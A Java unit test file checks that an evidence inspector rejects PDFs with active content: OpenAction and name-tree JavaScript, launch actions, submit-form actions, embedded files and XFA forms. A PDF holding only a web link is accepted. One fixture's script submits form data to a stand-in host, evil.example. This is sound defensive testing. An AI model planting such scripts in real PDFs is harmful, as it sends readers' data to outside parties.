package org.casework.evidence.control;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.Map;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.casework.evidence.entity.EvidenceRejectedException;
import org.casework.kernel.Reason;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** PDFs that would act when opened are refused, wherever the action sits; one that only shows and links is not. */
class PdfActiveContentTest {

    private final EvidenceInspector inspector = new EvidenceInspector(2_000_000, 10_000_000);

    @Test
    void refusesEachKindOfActiveContentAndSaysWhichItFound() throws IOException {
        Map<String, byte[]> hostile = Map.of(
                "JavaScript", TestImages.pdfWithOpenActionScript(),
                "JavaScript ", TestImages.pdf(2, d -> { // (a key of its own: the same words, from the name tree)
                    PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
                    scripts.setNames(Map.of("init", new PDActionJavaScript("this.submitForm('https://evil.example')")));
                    PDDocumentNameDictionary names = new PDDocumentNameDictionary(d.getDocumentCatalog());
                    names.setJavascript(scripts);
                    d.getDocumentCatalog().setNames(names);
                }),
                "an action that starts a program", TestImages.pdf(1, d -> {
                    PDAnnotationLink link = new PDAnnotationLink();
                    PDActionLaunch launch = new PDActionLaunch();
                    launch.setFile(new PDComplexFileSpecification());
                    link.setAction(launch);
                    d.getPage(0).getAnnotations().add(link);
                }),
                "a form action that sends or fetches data elsewhere", TestImages.pdf(1, d -> {
                    PDPageAdditionalActions actions = d.getPage(0).getActions();
                    actions.setO(new PDActionSubmitForm());
                    d.getPage(0).setActions(actions);
                }),
                "embedded files", TestImages.pdf(1, d -> {
                    PDComplexFileSpecification spec = new PDComplexFileSpecification();
                    spec.setEmbeddedFile(new PDEmbeddedFile(d, new ByteArrayInputStream(new byte[] {1, 2})));
                    PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
                    files.setNames(Map.of("payload.exe", spec));
                    PDDocumentNameDictionary names = new PDDocumentNameDictionary(d.getDocumentCatalog());
                    names.setEmbeddedFiles(files);
                    d.getDocumentCatalog().setNames(names);
                }),
                "an XFA form", TestImages.pdf(1, d -> {
                    PDAcroForm form = new PDAcroForm(d);
                    form.getCOSObject().setItem(COSName.XFA, new COSArray());
                    d.getDocumentCatalog().setAcroForm(form);
                }));
        hostile.forEach((found, pdf) -> assertThatThrownBy(() -> inspector.inspect(pdf, "evidence[2]"))
                .as(found).isInstanceOfSatisfying(EvidenceRejectedException.class, e -> {
                    assertThat(e.field()).isEqualTo("evidence[2]");
                    assertThat(e.httpStatus()).isEqualTo(415);
                    assertThat(e.code()).isEqualTo(Reason.ACTIVE_CONTENT);
                    assertThat(e.reason()).startsWith("is a PDF with " + found.strip() + ",");
                }));
    }

    @Test
    void aPdfThatOnlyShowsAndLinksToTheWebIsAccepted() throws IOException {
        byte[] pdf = TestImages.pdf(2, d -> {
            PDAnnotationLink link = new PDAnnotationLink();
            PDActionURI uri = new PDActionURI();
            uri.setURI("https://www.facebook.com/david.marsh/posts/1001");
            link.setAction(uri);
            d.getPage(1).getAnnotations().add(link);
        });
        assertThat(inspector.inspect(pdf, "evidence[0]").type().name()).isEqualTo("PDF");
    }
}
